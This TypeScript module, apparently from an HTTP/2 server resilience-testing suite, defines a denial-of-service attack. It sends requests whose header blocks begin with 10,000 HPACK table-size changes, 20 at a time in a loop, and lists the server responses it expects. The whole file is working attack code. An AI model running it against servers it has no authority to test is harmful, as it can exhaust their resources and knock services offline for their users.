// Changes of the size of HPACK's table, thousands in each head.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request, SMALL_PATH } from '../wire/http2.ts'

const CHANGES = Buffer.alloc(10_000, 0x20)

export const attack: Attack = {
  reference: 'HPACK table size changes',
  does: 'changes the size of the table 10,000 times in each head',
  who: ['known', 'unknown'],
  answers: ['400', '431', 'GOAWAY COMPRESSION_ERROR', 'RST_STREAM REFUSED_STREAM', '200', '401', '403'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) =>
      closedLoop(connection, 20, request(Buffer.concat([CHANGES, head(target, 'GET', SMALL_PATH)]))),
    ),
}
